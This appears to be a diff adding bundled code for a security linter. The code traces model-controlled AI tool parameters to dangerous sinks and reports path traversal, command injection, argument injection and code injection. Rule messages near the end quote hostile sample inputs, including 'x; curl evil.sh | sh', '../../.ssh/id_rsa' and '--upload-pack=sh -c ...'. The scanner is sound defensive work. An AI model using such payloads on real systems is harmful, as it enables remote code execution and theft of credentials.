+        if (value.type === "call" || value.type === "await") {
+          const call = value.type === "await" ? named2(value)[0] : value;
+          const arg2 = call?.type === "call" ? named2(field2(call, "arguments")).find((a) => scope.get(a.text)) : void 0;
+          const recv = call?.type === "call" && field2(call, "function")?.type === "attribute" ? field2(field2(call, "function"), "object") : null;
+          if (arg2) scope.derived.set(name2, { from: arg2.text, via: snippet2(call) });
+          else if (recv && scope.get(recv.text)) scope.derived.set(name2, { from: recv.text, via: snippet2(call) });
+        }
+      }
+      return;
+    }
+    if (["pattern_list", "tuple_pattern", "list_pattern", "tuple", "list", "expression_list"].includes(target.type)) {
+      const targets = named2(target);
+      const values = value && ["tuple", "list", "expression_list"].includes(value.type) ? named2(value) : null;
+      targets.forEach((tg, i2) => {
+        const inner = tg.type === "list_splat_pattern" ? named2(tg)[0] : tg;
+        if (!inner) return;
+        if (values && values.length === targets.length) {
+          const el = values[i2];
+          const elTainted = t && this.mentionsTainted(el, scope);
+          this.bind(inner, elTainted ? { ...t, argv: void 0 } : null, scope, el);
+        } else this.bind(inner, t ? { ...t, argv: void 0 } : null, scope, value);
+      });
+    }
+  }
+  mentionsTainted(node, scope) {
+    if (node.type === "identifier" || node.type === "attribute") {
+      if (scope.get(node.text)) return true;
+    }
+    return named2(node).some((c) => this.mentionsTainted(c, scope));
+  }
+  // ---------------------------------------------------------------- expressions
+  async eval(node, scope) {
+    if (!node) return null;
+    switch (node.type) {
+      case "identifier":
+        return scope.get(node.text) ?? null;
+      case "attribute": {
+        const known = scope.get(node.text);
+        if (known !== void 0) return known;
+        const obj = await this.eval(field2(node, "object"), scope);
+        return obj ? this.member(obj, field2(node, "attribute").text) : null;
+      }
+      case "subscript": {
+        const known = scope.get(node.text);
+        if (known !== void 0) return known;
+        const obj = await this.eval(field2(node, "value"), scope);
+        const sub = field2(node, "subscript");
+        await this.eval(sub, scope);
+        if (!obj) return null;
+        return this.member(obj, sub ? pyLiteralString(sub) ?? obj.label : obj.label);
+      }
+      case "assignment": {
+        const right = field2(node, "right");
+        if (!right) return null;
+        const t = await this.eval(right, scope);
+        this.bind(field2(node, "left"), t, scope, right);
+        return t;
+      }
+      case "named_expression": {
+        const v = field2(node, "value");
+        const t = await this.eval(v, scope);
+        this.bind(field2(node, "name"), t, scope, v);
+        return t;
+      }
+      case "augmented_assignment": {
+        const left = field2(node, "left");
+        const right = field2(node, "right");
+        const old = await this.eval(left, scope);
+        const add = await this.eval(right, scope);
+        if (!add) return old;
+        let t = combine([old, add]);
+        if (right.type === "list" || right.type === "tuple") {
+          const afterDD = scope.dashDash.has(left.text) || named2(right).some((e) => pyLiteralString(e) === "--");
+          t = { ...t, argv: old?.argv ?? { first: false, afterDashDash: afterDD && this.ddBefore(right, scope) } };
+        } else if (!old) t = { ...t, prefixFixed: true, hostFixed: true };
+        scope.set(left.text, withStep(t, this.step(node, `${left.text} ${snippet2(node)}`)));
+        return t;
+      }
+      case "string":
+      case "concatenated_string":
+        return this.stringTaint(node, scope);
+      case "binary_operator": {
+        const op = field2(node, "operator").text;
+        const left = field2(node, "left");
+        const right = field2(node, "right");
+        const l = await this.eval(left, scope);
+        const r2 = await this.eval(right, scope);
+        if (op === "%" && (left.type === "string" || left.type === "concatenated_string")) {
+          if (!r2) return l;
+          const lit = pyLiteralString(left) ?? "";
+          return this.built(r2, lit.split("%")[0], lit);
+        }
+        if (op === "+" || op === "/") {
+          if (!l && !r2) return null;
+          if (l && !r2) return { ...l, resolved: op === "/" ? void 0 : l.resolved, sqlBuilt: l.sqlBuilt || SQL_TEXT2.test(pyLiteralString(right) ?? "") || void 0 };
+          if (!l && r2) {
+            const lit = pyLiteralString(left);
+            if (op === "/") return { ...r2, prefixFixed: true, hostFixed: true, resolved: void 0 };
+            return this.built(r2, lit ?? null, lit ?? "");
+          }
+          return combine([l, r2]);
+        }
+        return null;
+      }
+      case "boolean_operator": {
+        const l = await this.eval(field2(node, "left"), scope);
+        const r2 = await this.eval(field2(node, "right"), scope);
+        return combine([l, r2]);
+      }
+      case "conditional_expression": {
+        const parts2 = named2(node);
+        const a = await this.eval(parts2[0], scope);
+        await this.eval(parts2[1], scope);
+        const b = await this.eval(parts2[2], scope);
+        return combine([a, b]);
+      }
+      case "list":
+      case "tuple":
+      case "set":
+      case "expression_list": {
+        const els = named2(node);
+        const ts = [];
+        for (const e of els) ts.push(await this.eval(e, scope));
+        const i2 = ts.findIndex((t) => t && !t.safe.has("argument"));
+        const idx = i2 >= 0 ? i2 : ts.findIndex((t) => t);
+        if (idx < 0) return null;
+        const dd = els.slice(0, idx).some((e) => pyLiteralString(e) === "--");
+        return { ...ts[idx], argv: { first: idx === 0, afterDashDash: dd } };
+      }
+      case "dictionary": {
+        const ts = [];
+        for (const p of named2(node)) ts.push(await this.eval(p.type === "pair" ? field2(p, "value") : p, scope));
+        return combine(ts);
+      }
+      case "list_comprehension":
+      case "generator_expression":
+      case "set_comprehension":
+      case "dictionary_comprehension": {
+        const inner = scope.copy();
+        for (const c of named2(node)) {
+          if (c.type === "for_in_clause") {
+            const it = await this.eval(field2(c, "right"), inner);
+            this.bind(field2(c, "left"), it ? { ...it, argv: void 0 } : null, inner, null);
+          }
+        }
+        const body2 = field2(node, "body");
+        const t = body2?.type === "pair" ? combine([await this.eval(field2(body2, "key"), inner), await this.eval(field2(body2, "value"), inner)]) : await this.eval(body2, inner);
+        return t ? { ...t, argv: { first: false, afterDashDash: false } } : null;
+      }
+      case "parenthesized_expression":
+      case "await":
+      case "list_splat":
+      case "dictionary_splat":
+      case "keyword_argument":
+      case "as_pattern": {
+        let last = null;
+        for (const c of named2(node)) if (c.type !== "identifier" || node.type !== "keyword_argument" || c !== field2(node, "name")) last = await this.eval(c, scope);
+        return last;
+      }
+      case "call":
+        return this.call(node, scope);
+      case "comparison_operator":
+      case "not_operator":
+        for (const c of named2(node)) await this.eval(c, scope);
+        return null;
+      case "lambda":
+        return null;
+      default:
+        return null;
+    }
+  }
+  /** Value taint of `obj.name` / `obj["name"]`: for tool-input objects, a property is one input. */
+  member(t, name2) {
+    if (t.container !== void 0) {
+      if (t.container > 0) return { ...t, container: t.container - 1 };
+      return { ...t, container: void 0, label: name2 };
+    }
+    return t;
+  }
+  /** A string that combines literal text with a tainted value. */
+  built(t, prefix, literal) {
+    const out2 = { ...t, resolved: void 0, argv: void 0 };
+    if (prefix === null) {
+      out2.prefixFixed = true;
+      out2.hostFixed = true;
+    } else if (prefix.length > 0) {
+      out2.prefixFixed = true;
+      if (URL_WITH_HOST2.test(prefix)) out2.hostFixed = true;
+    }
+    if (SQL_TEXT2.test(literal)) out2.sqlBuilt = true;
+    return out2;
+  }
+  async stringTaint(node, scope) {
+    const parts2 = node.type === "concatenated_string" ? named2(node) : [node];
+    let prefix = "";
+    let literal = "";
+    let first = null;
+    let firstPrefix = "";
+    const all = [];
+    let seenUntaintedExpr = false;
+    for (const s of parts2) {
+      for (const c of named2(s)) {
+        if (c.type === "string_content") {
+          literal += c.text;
+          if (!first) prefix += c.text;
+        } else if (c.type === "interpolation") {
+          const t2 = await this.eval(field2(c, "expression"), scope);
+          all.push(t2);
+          if (t2 && !first) {
+            first = t2;
+            firstPrefix = seenUntaintedExpr ? null : prefix;
+          }
+          if (!t2 && !first) seenUntaintedExpr = true;
+        }
+      }
+    }
+    if (!first) return null;
+    const t = combine(all);
+    return this.built(t, firstPrefix, literal);
+  }
+  ddBefore(_list, _scope) {
+    return true;
+  }
+  isHttpClientCtor(value) {
+    const v = value.type === "await" ? named2(value)[0] : value;
+    if (v?.type !== "call") return false;
+    const c = pyCanonical(this.idx, field2(v, "function"));
+    return !!c && PY.httpClientCtors.has(c);
+  }
+  isPredicateCall(call) {
+    const f = field2(call, "function");
+    const name2 = f.type === "attribute" ? field2(f, "attribute").text : f.text;
+    return VALIDATOR_NAME2.test(name2) || /^(is_|has_|check)/.test(name2);
+  }
+  // ---------------------------------------------------------------- calls
+  async call(node, scope) {
+    const fnNode = field2(node, "function");
+    const argsNode = field2(node, "arguments");
+    const positional = [];
+    const keywords = /* @__PURE__ */ new Map();
+    const argNodes = argsNode?.type === "generator_expression" ? [argsNode] : named2(argsNode);
+    for (const a of argNodes) {
+      if (a.type === "comment") continue;
+      if (a.type === "keyword_argument") {
+        const v = field2(a, "value");
+        keywords.set(field2(a, "name").text, { node: v, t: await this.eval(v, scope) });
+      } else if (a.type === "dictionary_splat") {
+        keywords.set("**", { node: a, t: await this.eval(a, scope) });
+      } else positional.push({ node: a.type === "list_splat" ? named2(a)[0] ?? a : a, t: await this.eval(a, scope) });
+    }
+    const isMethod = fnNode.type === "attribute";
+    const method = isMethod ? field2(fnNode, "attribute").text : null;
+    const receiverNode = isMethod ? field2(fnNode, "object") : null;
+    const receiver = receiverNode ? await this.eval(receiverNode, scope) : null;
+    const canon = pyCanonical(this.idx, fnNode);
+    const anyArg = positional.some((p) => p.t) || [...keywords.values()].some((k) => k.t);
+    if (anyArg || receiver) {
+      const hits = PY.sinks({ canon, method, receiverNode, receiver, positional, keywords, scope, call: node, idx: this.idx });
+      for (const h of hits) this.report(h, node);
+    }
+    const name2 = canon ?? method ?? "";
+    if (PY.sanitizers.has(name2) || method && PY.sanitizerMethods.has(method)) {
+      const kinds = PY.sanitizers.get(name2) ?? PY.sanitizerMethods.get(method);
+      const src = receiver ?? combine(positional.map((p) => p.t));
+      if (!src || kinds === "all") return null;
+      return markSafe(src, kinds);
+    }
+    if (method && PY.booleanMethods.has(method)) return null;
+    const ref = await this.resolveCallee(fnNode);
+    if (ref) {
+      if (!anyArg) return null;
+      return this.callLocal(ref, node, positional, keywords, scope, isMethod && (receiverNode?.text === "self" || receiverNode?.text === "cls"));
+    }
+    if (method === "relative_to" && receiver) {
+      if (receiverNode && receiver.resolved) scope.set(receiverNode.text, markSafe(receiver, ["path"]));
+      return receiver;
+    }
+    if (receiver) {
+      if (method === "get" && receiver.container !== void 0) return this.member(receiver, positional[0] ? pyLiteralString(positional[0].node) ?? receiver.label : receiver.label);
+      if (method === "format") return combine([receiver, ...positional.map((p) => p.t), ...[...keywords.values()].map((k) => k.t)]);
+      if (method === "resolve" || method === "absolute") return { ...receiver, resolved: true };
+      if (method === "join" && !receiver) return null;
+      return { ...receiver, argv: method === "split" ? { first: true, afterDashDash: false } : void 0 };
+    }
+    if (!anyArg) return null;
+    const args2 = [...positional.map((p) => p.t), ...[...keywords.values()].map((k) => k.t)];
+    let t = combine(args2);
+    if (isMethod && method === "get") return null;
+    if (isMethod && method === "format" && receiverNode) {
+      const lit = pyLiteralString(receiverNode);
+      if (lit !== null) return this.built(t, lit.split("{")[0], lit);
+    }
+    if (isMethod && method === "join" && receiverNode && pyLiteralString(receiverNode) !== null) {
+      return { ...t, argv: void 0, resolved: void 0, sqlBuilt: t.sqlBuilt || SQL_TEXT2.test(pyLiteralString(receiverNode)) || void 0 };
+    }
+    if (PY.resolvers.has(name2)) t = { ...t, resolved: true };
+    else if (PY.pathJoins.has(name2)) {
+      t = { ...t, resolved: void 0 };
+      if (!positional[0]?.t) t = { ...t, prefixFixed: true, hostFixed: name2.startsWith("urllib") ? false : true };
+    } else if (name2 === "shlex.split") t = { ...t, argv: { first: true, afterDashDash: false } };
+    else if (name2 === "pathlib.Path" || name2 === "pathlib.PurePath" || name2 === "Path") t = { ...t, resolved: void 0 };
+    else t = { ...t, argv: void 0 };
+    if (positional.length === 1 && !keywords.size) return t;
+    return t;
+  }
+  report(h, call) {
+    const t = h.taint;
+    if (t.safe.has(h.kind)) return;
+    this.flows.push({
+      kind: h.kind,
+      handler: t.origin.handler,
+      param: t.origin.param,
+      label: t.label,
+      sink: h.sink,
+      path: this.pf.file.path,
+      range: rangeOf(this.pf, call),
+      steps: [...t.steps, this.step(h.arg ?? call, `reaches ${h.sink}`)],
+      slot: t.slot
+    });
+  }
+  async resolveCallee(fnNode) {
+    if (this.depth >= MAX_CALL_DEPTH) return null;
+    if (fnNode.type === "identifier") {
+      const name2 = fnNode.text;
+      const nested = this.local.get(name2);
+      if (nested) return { pf: this.pf, node: nested };
+      const top = this.idx.functions.get(name2);
+      if (top) return { pf: this.pf, node: top };
+      const imp = this.idx.localImports.get(name2);
+      if (imp?.name) return this.functionIn(imp.path, imp.name);
+      return null;
+    }
+    if (fnNode.type === "attribute") {
+      const obj = field2(fnNode, "object");
+      const attr = field2(fnNode, "attribute").text;
+      if (obj.type === "identifier" && (obj.text === "self" || obj.text === "cls")) {
+        let cls = this.fn.parent;
+        while (cls && cls.type !== "class_definition") cls = cls.parent;
+        if (!cls) return null;
+        for (const m of named2(field2(cls, "body"))) {
+          const def = m.type === "decorated_definition" ? field2(m, "definition") : m;
+          if (def?.type === "function_definition" && field2(def, "name").text === attr) return { pf: this.pf, node: def };
+        }
+        return null;
+      }
+      if (obj.type === "identifier") {
+        const imp = this.idx.localImports.get(obj.text);
+        if (imp && !imp.name) return this.functionIn(imp.path, attr);
+      }
+    }
+    return null;
+  }
+  async functionIn(path2, name2) {
+    const pf = await parsedFile(this.cx.project, path2);
+    if (!pf || pf.parsed.language !== "python") return null;
+    const idx = await pyIndex(this.cx.project, pf);
+    const fn = idx.functions.get(name2);
+    if (fn) return { pf, node: fn };
+    const imp = idx.localImports.get(name2);
+    if (imp?.name && imp.path !== path2) return this.functionIn(imp.path, imp.name);
+    return null;
+  }
+  async callLocal(ref, call, positional, keywords, scope, boundMethod) {
+    let params = pyParams(ref.node);
+    const skipSelf = boundMethod || (params[0] === "self" || params[0] === "cls") ? 1 : 0;
+    const args2 = params.map(() => null);
+    const argNodes = params.map(() => null);
+    positional.forEach((p, i2) => {
+      const j = i2 + (skipSelf && (params[0] === "self" || params[0] === "cls") ? 1 : 0);
+      if (j < params.length) {
+        args2[j] = p.t;
+        argNodes[j] = p.node;
+      }
+    });
+    for (const [k, v] of keywords) {
+      const j = params.indexOf(k);
+      if (j >= 0) {
+        args2[j] = v.t;
+        argNodes[j] = v.node;
+      }
+    }
+    if (!args2.some((a) => a)) return null;
+    const calleeName = field2(ref.node, "name")?.text ?? "helper";
+    const summary = await this.cx.summaries.call(ref, args2, async (placeholders) => {
+      const idx = ref.pf === this.pf ? this.idx : await pyIndex(this.cx.project, ref.pf);
+      const w = new _PyWalker(this.cx, ref.pf, idx, ref.node, this.depth + 1);
+      if (ref.pf === this.pf) for (const [k, v] of this.local) w.local.set(k, v);
+      const vars = /* @__PURE__ */ new Map();
+      placeholders.forEach((p, i2) => {
+        if (p && params[i2]) vars.set(params[i2], withStep(p, stepAt(ref.pf, field2(ref.node, "parameters"), `parameter ${params[i2]} of ${calleeName}()`)));
+      });
+      return w.run(vars);
+    });
+    if (!summary) return null;
+    const callStep = (slot) => this.step(argNodes[slot] ?? call, `passed to ${calleeName}() as ${params[slot]}`);
+    this.flows.push(...instantiateFlows(summary, args2, callStep));
+    summary.paramSafe.forEach((kinds, i2) => {
+      const n = argNodes[i2];
+      const t = args2[i2];
+      if (kinds && n && t) scope.set(n.text, markSafe(t, kinds));
+    });
+    return instantiateReturn(summary, args2, callStep, this.step(call, `returned by ${calleeName}()`));
+  }
+  // ---------------------------------------------------------------- guards
+  /** Scope in which `cond` is known to be `truth`. */
+  refine(cond, truth, scope) {
+    switch (cond.type) {
+      case "parenthesized_expression":
+        return this.refine(named2(cond)[0], truth, scope);
+      case "not_operator":
+        return this.refine(field2(cond, "argument"), !truth, scope);
+      case "boolean_operator": {
+        const op = field2(cond, "operator").text;
+        if (op === "and" && truth || op === "or" && !truth) {
+          this.refine(field2(cond, "left"), truth, scope);
+          this.refine(field2(cond, "right"), truth, scope);
+        }
+        return scope;
+      }
+      case "identifier": {
+        const p = scope.predicates.get(cond.text);
+        if (p) this.refine(p, truth, scope);
+        return scope;
+      }
+      case "comparison_operator": {
+        const kids = cond.children.filter(Boolean);
+        const operands = named2(cond).filter((n) => n.type !== "comment");
+        const opNode = kids.find((k) => !k.isNamed || k.type === "not in" || k.type === "is not");
+        const op = cond.childrenForFieldName("operators").map((n) => n.text).join(" ") || opNode?.text || "";
+        if (operands.length !== 2) return scope;
+        const [a, b] = operands;
+        if (op === "in" && truth || (op === "not in" || op === "not  in") && !truth) {
+          if (this.mentionsTainted(a, scope) && !this.mentionsTainted(b, scope)) this.guard(a, this.membershipKinds(a, scope), scope);
+        }
+        if (op === "==" && truth || op === "!=" && !truth) {
+          for (const [x, y] of [
+            [a, b],
+            [b, a]
+          ]) {
+            if (x.type === "call" && /commonpath$/.test(pyCanonical(this.idx, field2(x, "function")) ?? "")) {
+              for (const n of named2(field2(x, "arguments"))) for (const e of n.type === "list" || n.type === "tuple" ? named2(n) : [n]) if (this.isResolved(e, scope)) this.guard(e, ["path"], scope);
+            } else if (pyLiteralString(y) !== null && this.mentionsTainted(x, scope)) this.guard(x, ALL_KINDS, scope);
+          }
+        }
+        return scope;
+      }
+      case "call": {
+        const f = field2(cond, "function");
+        const args2 = named2(field2(cond, "arguments"));
+        if (f.type === "attribute") {
+          const m = field2(f, "attribute").text;
+          const obj = field2(f, "object");
+          if (m === "startswith" && args2[0]) {
+            const lit = pyLiteralString(args2[0]);
+            const tuple = args2[0].type === "tuple" ? named2(args2[0]).map(pyLiteralString) : [];
+            if (!truth && (lit?.startsWith("-") || tuple.some((s) => s?.startsWith("-")))) this.guard(obj, ["argument"], scope);
+            if (truth && this.isSepTerminated(args2[0], scope) && this.isResolved(obj, scope)) this.guard(obj, ["path"], scope);
+            return scope;
+          }
+          if (m === "is_relative_to" && truth && this.isResolved(obj, scope)) return this.guard(obj, ["path"], scope);
+          if (/^is(alnum|digit|decimal|numeric|identifier|alpha)$/.test(m) && truth) return this.guard(obj, ALL_KINDS, scope);
+          if ((m === "fullmatch" || m === "match" || m === "search") && truth) {
+            const canon = pyCanonical(this.idx, f) ?? "";
+            let pattern = null;
+            let subject;
+            if (canon.startsWith("re.")) {
+              pattern = args2[0] ? pyLiteralString(args2[0]) : null;
+              subject = args2[1];
+            } else {
+              const def = obj.type === "identifier" ? this.idx.assigns.get(obj.text) : null;
+              if (def?.type === "call" && /compile$/.test(pyCanonical(this.idx, field2(def, "function")) ?? "")) pattern = pyLiteralString(named2(field2(def, "arguments"))[0]);
+              subject = args2[0];
+            }
+            if (pattern !== null && subject && (m === "fullmatch" || regexIsAnchored(pattern) && (m === "match" || pattern.startsWith("^"))) && regexIsRestrictive(pattern)) {
+              const kinds = regexAllowsLeadingDash(pattern) ? ALL_KINDS.filter((k) => k !== "argument") : ALL_KINDS;
+              this.guard(subject, kinds, scope);
+            }
+            return scope;
+          }
+        }
+        if (truth && this.isPredicateCall(cond)) {
+          for (const a of args2) if (this.mentionsTainted(a, scope)) this.guard(a, VALIDATOR_NAME2.test(f.text) ? ALL_KINDS : [], scope);
+        }
+        return scope;
+      }
+      default:
+        return scope;
+    }
+  }
+  membershipKinds(a, _scope) {
+    if (/\.(hostname|netloc|host)$/.test(a.text) || /\b(hostname|netloc|host)\b/.test(a.text)) return ["ssrf"];
+    return ALL_KINDS;
+  }
+  isResolved(node, scope) {
+    const t = scope.get(node.text);
+    if (t?.resolved) return true;
+    if (node.type === "call") {
+      const f = field2(node, "function");
+      if (f.type === "attribute" && field2(f, "attribute").text === "resolve") return true;
+      if (PY.resolvers.has(pyCanonical(this.idx, f) ?? "")) return true;
+    }
+    return false;
+  }
+  isSepTerminated(node, scope, depth = 0) {
+    if (depth > 2) return false;
+    const lit = pyLiteralString(node);
+    if (lit !== null) return lit.endsWith("/") || lit.endsWith("\\");
+    if (node.type === "binary_operator" && field2(node, "operator").text === "+") {
+      const r2 = field2(node, "right");
+      return /(^|\.)sep$/.test(r2.text) || this.isSepTerminated(r2, scope, depth + 1);
+    }
+    if (node.type === "string") {
+      const last = named2(node).filter((c) => c.type !== "string_end").pop();
+      if (last?.type === "string_content") return /[/\\]$/.test(last.text);
+      if (last?.type === "interpolation") return /(^|\.)sep$/.test(field2(last, "expression")?.text ?? "");
+    }
+    if (node.type === "call") {
+      const canon = pyCanonical(this.idx, field2(node, "function")) ?? "";
+      const args2 = named2(field2(node, "arguments"));
+      if (/os\.path\.join$/.test(canon) && args2.length >= 2 && pyLiteralString(args2[args2.length - 1]) === "") return true;
+      if (canon === "str" && args2[0]) return this.isSepTerminated(args2[0], scope, depth + 1);
+    }
+    if (node.type === "identifier") {
+      const def = this.idx.assigns.get(node.text);
+      if (def) return this.isSepTerminated(def, scope, depth + 1);
+      for (const a of this.fn.descendantsOfType("assignment")) {
+        if (a && field2(a, "left")?.text === node.text && field2(a, "right")) return this.isSepTerminated(field2(a, "right"), scope, depth + 1);
+      }
+    }
+    return false;
+  }
+  /** Mark the variables an expression is built from as safe for `kinds`. */
+  guard(node, kinds, scope) {
+    if (!kinds.length) return scope;
+    const seen = /* @__PURE__ */ new Set();
+    const visit2 = (n) => {
+      if (n.type === "identifier" || n.type === "attribute" || n.type === "subscript") {
+        const key = n.text;
+        if (!seen.has(key)) {
+          seen.add(key);
+          const t = scope.get(key);
+          if (t) scope.set(key, markSafe(t, kinds));
+          else if (n.type !== "identifier") {
+            const base = n.type === "attribute" ? field2(n, "object") : field2(n, "value");
+            if (base && scope.get(base.text) && kinds.length) {
+              const bt = scope.get(base.text);
+              scope.set(key, markSafe(this.member(bt, n.type === "attribute" ? field2(n, "attribute").text : pyLiteralString(field2(n, "subscript")) ?? bt.label), kinds));
+            }
+          }
+          const d = scope.derived.get(key);
+          if (d && n.type === "identifier") {
+            const dt = scope.get(d.from);
+            if (dt && (kinds.includes("ssrf") ? true : dt.resolved || kinds.length === ALL_KINDS.length)) scope.set(d.from, markSafe(dt, kinds));
+          }
+        }
+        if (n.type === "identifier") return;
+        const obj = n.type === "attribute" ? field2(n, "object") : field2(n, "value");
+        if (obj.type === "call" || obj.type === "parenthesized_expression" || obj.type === "await") return visit2(obj);
+        if (obj.type === "identifier" && scope.derived.has(obj.text)) {
+          const d = scope.derived.get(obj.text);
+          const dt = scope.get(d.from);
+          if (dt) scope.set(d.from, markSafe(dt, kinds));
+        }
+        return;
+      }
+      if (n.type === "call") {
+        const f = field2(n, "function");
+        if (f.type === "attribute") visit2(field2(f, "object"));
+        for (const a of named2(field2(n, "arguments"))) visit2(a);
+        return;
+      }
+      for (const c of named2(n)) visit2(c);
+    };
+    visit2(node);
+    return scope;
+  }
+};
+async function analysePythonHandler(cx, pf, fn, vars) {
+  const idx = await pyIndex(cx.project, pf);
+  const w = new PyWalker(cx, pf, idx, fn, 0);
+  const s = await w.run(vars);
+  return s.flows;
+}
+
+// src/taint/index.ts
+var FUNCTION_NODES = /* @__PURE__ */ new Set([
+  "function_definition",
+  "lambda",
+  "function_declaration",
+  "function_expression",
+  "function",
+  "arrow_function",
+  "method_definition",
+  "generator_function_declaration",
+  "generator_function"
+]);
+function handlerNode(root, startIndex, endIndex) {
+  let n = root.descendantForIndex(startIndex, Math.max(startIndex, endIndex - 1));
+  let best = null;
+  while (n) {
+    if (n.startIndex <= startIndex && n.endIndex >= endIndex) {
+      if (FUNCTION_NODES.has(n.type)) return n;
+      if (n.type === "decorated_definition") return n.childForFieldName("definition");
+      if (n.type === "variable_declarator" || n.type === "pair") {
+        const v = n.childForFieldName("value");
+        if (v && FUNCTION_NODES.has(v.type)) return v;
+      }
+      if (!best && n.startIndex === startIndex && n.endIndex === endIndex) best = n;
+      if (n.startIndex < startIndex || n.endIndex > endIndex) break;
+    }
+    n = n.parent;
+  }
+  if (best) {
+    const inner = best.descendantsOfType([...FUNCTION_NODES])[0];
+    if (inner) return inner;
+  }
+  return null;
+}
+function summaries(project) {
+  return project.memo("taint:summaries", async () => new SummaryCache(project));
+}
+function analyseHandler(handler, project) {
+  const h = handler.handler;
+  return project.memo(`taint:handler:${h.path}:${h.startIndex}:${h.endIndex}:${handler.name}`, async () => {
+    const pf = await parsedFile(project, h.path);
+    if (!pf) return [];
+    const fn = handlerNode(pf.parsed.root, h.startIndex, h.endIndex);
+    if (!fn) return [];
+    const vars = /* @__PURE__ */ new Map();
+    for (const p of handler.parameters) {
+      const step = { path: h.path, range: p.range, message: `tool parameter "${p.name}" (model-controlled)` };
+      vars.set(p.name, {
+        origin: { handler, param: p },
+        label: p.name,
+        steps: [step],
+        safe: /* @__PURE__ */ new Set(),
+        container: p.shape === "object" ? p.inputPath?.length ?? 0 : void 0
+      });
+    }
+    if (!vars.size) return [];
+    const cx = { project, summaries: await summaries(project) };
+    const flows = pf.parsed.language === "python" ? await analysePythonHandler(cx, pf, fn, vars) : await analyseJsHandler(cx, pf, fn, vars);
+    return dedupe(flows);
+  });
+}
+function dedupe(flows) {
+  const seen = /* @__PURE__ */ new Set();
+  const out2 = [];
+  for (const f of flows) {
+    const key = `${f.kind}|${f.path}|${f.range.startLine}:${f.range.startColumn}|${f.param.name}|${f.label}|${f.sink}`;
+    if (seen.has(key)) continue;
+    seen.add(key);
+    out2.push(f);
+  }
+  return out2;
+}
+function flowsOfFile(ctx) {
+  return ctx.memo("taint", async () => {
+    const tools = await toolsOfFile(ctx);
+    const out2 = [];
+    for (const t of tools) out2.push(...await analyseHandler(t, ctx.project));
+    return out2;
+  });
+}
+var RULE_OF_KIND = {
+  path: "tool-input/path-traversal",
+  command: "tool-input/command-injection",
+  argument: "tool-input/argument-injection",
+  code: "tool-input/code-injection",
+  sql: "tool-input/sql-injection",
+  ssrf: "tool-input/ssrf",
+  deserialization: "tool-input/unsafe-deserialization"
+};
+registerSinkAnalyzer(
+  async (handler, project) => (await analyseHandler(handler, project)).map((f) => ({ ruleId: RULE_OF_KIND[f.kind], sink: f.sink, path: f.path, line: f.range.startLine }))
+);
+async function reportFlows(ctx, kind, _meta) {
+  const flows = await flowsOfFile(ctx);
+  for (const f of flows) {
+    if (f.kind !== kind) continue;
+    const param = f.label === f.param.name ? f.param.name : `${f.param.name}.${f.label}`;
+    ctx.report({
+      messageId: "flow",
+      data: { tool: f.handler.name, param: f.label, sink: f.sink },
+      range: f.range,
+      ...f.path !== ctx.file.path ? { path: f.path } : {},
+      related: [{ path: f.param.range ? f.handler.handler.path : f.path, range: f.param.range, message: `tool parameter "${f.param.name}" (model-controlled)` }],
+      flow: f.steps,
+      fingerprintHint: `${f.handler.name}:${param}:${f.sink}`
+    });
+  }
+}
+
+// src/rules/tool-input/path-traversal.ts
+var meta2 = {
+  id: "tool-input/path-traversal",
+  family: "tool-input",
+  severity: "error",
+  description: "A model-controlled tool argument reaches a file-system call (open, pathlib, os/shutil, fs.*, git.Repo) without a realpath/resolve + containment check.",
+  fix: "Resolve the path (os.path.realpath / Path.resolve / path.resolve) and check it stays under the allowed root with a separator-aware test (os.path.commonpath, Path.is_relative_to, startsWith(root + path.sep)) before using it.",
+  messages: {
+    flow: 'Tool "{{tool}}" passes its model-controlled parameter "{{param}}" to {{sink}}: a hostile argument such as "../../.ssh/id_rsa" or an absolute path can read, overwrite or delete any file the agent process can reach. Resolve the path (os.path.realpath / Path.resolve / path.resolve) and check it stays under the allowed root with a separator-aware test (os.path.commonpath, Path.is_relative_to, startsWith(root + path.sep)) before using it.'
+  }
+};
+var pathTraversal = {
+  meta: meta2,
+  appliesTo: (file) => file.isCode,
+  check: (ctx) => reportFlows(ctx, "path", meta2)
+};
+
+// src/rules/tool-input/command-injection.ts
+var meta3 = {
+  id: "tool-input/command-injection",
+  family: "tool-input",
+  severity: "error",
+  description: "A model-controlled tool argument reaches a shell command string or chooses the program to run (os.system, subprocess with shell=True or a string, child_process.exec, spawn with shell: true, execa with shell, zx $).",
+  fix: "Run a fixed program with an argv array and no shell, pick the command from an allowlist, or quote with shlex.quote.",
+  messages: {
+    flow: 'Tool "{{tool}}" passes its model-controlled parameter "{{param}}" to {{sink}}: a hostile argument such as "x; curl evil.sh | sh" runs arbitrary commands as the agent. Run a fixed program with an argv array and no shell, pick the command from an allowlist, or quote with shlex.quote.'
+  }
+};
+var commandInjection = {
+  meta: meta3,
+  appliesTo: (file) => file.isCode,
+  check: (ctx) => reportFlows(ctx, "command", meta3)
+};
+
+// src/rules/tool-input/argument-injection.ts
+var meta4 = {
+  id: "tool-input/argument-injection",
+  family: "tool-input",
+  severity: "error",
+  description: 'A model-controlled tool argument is placed in an argv array (subprocess, spawn/execFile, execa, GitPython repo.git.*) where a leading "-" turns it into an option, with no "--" before it and no check rejecting a leading "-".',
+  fix: 'Put "--" before model-supplied arguments, or reject values starting with "-" (or validate them against an allowlist or a strict pattern).',
+  messages: {
+    flow: 'Tool "{{tool}}" passes its model-controlled parameter "{{param}}" to {{sink}}: a hostile argument such as "--output=/etc/cron.d/x" or "--upload-pack=sh -c ..." becomes an option of the program and can write files or run commands. Put "--" before model-supplied arguments, or reject values starting with "-" (or validate them against an allowlist or a strict pattern).'
+  }
+};
+var argumentInjection = {
+  meta: meta4,
+  appliesTo: (file) => file.isCode,
+  check: (ctx) => reportFlows(ctx, "argument", meta4)
+};
+
+// src/rules/tool-input/code-injection.ts
+var meta5 = {
+  id: "tool-input/code-injection",
+  family: "tool-input",
+  severity: "error",
+  description: "A model-controlled tool argument is evaluated as code or chooses the code to load (eval, exec, compile, __import__/importlib, new Function, vm.run*, dynamic import()/require()).",
+  fix: "Never evaluate tool input: parse data with json / ast.literal_eval, and map names to a fixed table of functions or modules.",
+  messages: {
+    flow: 'Tool "{{tool}}" passes its model-controlled parameter "{{param}}" to {{sink}}: a hostile argument runs arbitrary Python/JavaScript in the agent process (restricted builtins do not prevent escapes). Never evaluate tool input: parse data with json / ast.literal_eval, and map names to a fixed table of functions or modules.'
+  }
+};
+var codeInjection = {
+  meta: meta5,
+  appliesTo: (file) => file.isCode,
+  check: (ctx) => reportFlows(ctx, "code", meta5)
+};
+
+// src/rules/tool-input/sql-injection.ts
+var meta6 = {
